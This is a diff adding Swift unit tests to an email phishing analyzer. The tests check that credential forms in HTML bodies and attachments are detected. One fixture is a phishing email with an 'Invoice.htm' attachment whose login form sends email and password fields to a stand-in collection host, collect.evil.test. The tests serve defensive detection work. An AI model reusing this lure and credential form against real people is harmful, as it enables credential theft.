@@ -224,3 +224,74 @@ struct LinkMismatchTests {
     #expect(parsed.anchors.first?.href == "https://a.test/")
   }
 }
+
+/// Login forms that travel inside the message: in the HTML body or in an HTML attachment.
+@Suite("HTML forms")
+struct HTMLFormTests {
+  @Test("a password field in an HTML attachment is a credential form and a phishing verdict")
+  func credentialFormInAttachment() throws {
+    let page = #"""
+      <html><body><FORM method="POST" action="https://collect.evil.test/p.php">
+      <input type=hidden name=t value=1><INPUT TYPE="email" name="user">
+      <input type='password' name='pass'><input type=submit value='Sign in'></form></body></html>
+      """#
+    let base64 = Data(page.utf8).base64EncodedString(options: .lineLength76Characters)
+    let raw = """
+      From: Shared Files <share@files.test>
+      To: a@b.test
+      Subject: Document shared with you
+      MIME-Version: 1.0
+      Content-Type: multipart/mixed; boundary="b1"
+
+      --b1
+      Content-Type: text/plain; charset=utf-8
+
+      Open the attached document to view it.
+      --b1
+      Content-Type: text/html; name="Invoice.htm"
+      Content-Disposition: attachment; filename="Invoice.htm"
+      Content-Transfer-Encoding: base64
+
+      \(base64.replacingOccurrences(of: "\r\n", with: "\n"))
+      --b1--
+
+      """
+    let message = MessageParser().parse(Array(raw.utf8))
+    let form = try #require(message.parts.flatMap(\.forms).first)
+    #expect(form.action == "https://collect.evil.test/p.php")
+    #expect(form.method == "post")
+    #expect(form.inputTypes == ["hidden", "email", "password", "submit"])
+    #expect(form.inputNames == ["t", "user", "pass"])
+    let analysis = Analyzer().analyze(message, source: "t")
+    #expect(analysis.bec.signals.has("html.credential-form"))
+    #expect(analysis.bec.signals.has("html.form-external"))
+    let finding = try #require(analysis.findings.first { $0.id == "credential-form" })
+    #expect(finding.title.contains("Invoice.htm"))
+    #expect(analysis.bec.verdict.label == "phishing")
+    #expect(analysis.bec.verdict.matched.contains { $0.id == "phishing-credential-form" })
+  }
+
+  @Test("a search box or newsletter sign-up is a form without a password: no credential signal")
+  func harmlessForm() {
+    let raw = """
+      From: News <news@shop.test>
+      Content-Type: text/html; charset=utf-8
+
+      <form action="https://shop.test/search"><input name=q><input type=submit></form>
+      """
+    let message = MessageParser().parse(Array(raw.utf8))
+    #expect(message.parts.flatMap(\.forms).count == 1)
+    let analysis = Analyzer().analyze(message, source: "t")
+    #expect(!analysis.bec.signals.has("html.credential-form"))
+    #expect(analysis.bec.signals.has("html.form-external"))
+  }
+
+  @Test("a password input outside any form still counts (sent by a script)")
+  func formlessPassword() {
+    let raw = "From: x@y.test\nContent-Type: text/html\n\n<div><input type=\"PASSWORD\" id=p></div>\n"
+    let forms = MessageParser().parse(Array(raw.utf8)).parts.flatMap(\.forms)
+    #expect(forms.count == 1)
+    #expect(forms.first?.action == nil)
+    #expect(forms.first?.asksForPassword == true)
+  }
+}
